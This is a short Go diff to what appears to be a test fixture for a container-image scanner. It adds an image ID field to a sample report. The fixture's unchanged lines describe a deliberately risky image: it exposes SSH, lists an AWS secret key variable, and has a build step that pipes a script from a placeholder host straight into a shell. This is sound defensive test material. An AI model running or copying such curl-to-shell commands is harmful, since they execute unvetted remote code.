@@ -16,7 +16,7 @@ func report() *finding.Report {
 	return &finding.Report{
 		Schema: finding.SchemaVersion,
 		Artifact: finding.Artifact{
-			Kind: finding.KindImage, Name: "registry.example.com/shop/web:1.4", Digest: "sha256:" + strings.Repeat("a", 64), Created: "2026-11-01T00:00:00Z",
+			Kind: finding.KindImage, Name: "registry.example.com/shop/web:1.4", Digest: "sha256:" + strings.Repeat("a", 64), ID: "sha256:" + strings.Repeat("c", 64), Created: "2026-11-01T00:00:00Z",
 			Layers: []finding.Layer{{DiffID: "sha256:" + strings.Repeat("1", 64), Base: true}, {Index: 1, DiffID: "sha256:" + strings.Repeat("2", 64)}},
 			Image: &finding.Config{
 				User: "app", Ports: []string{"8080/tcp", "22/tcp"}, EnvNames: []string{"PATH", "AWS_SECRET_ACCESS_KEY"}, History: []string{"/bin/sh -c curl http://x | sh"},
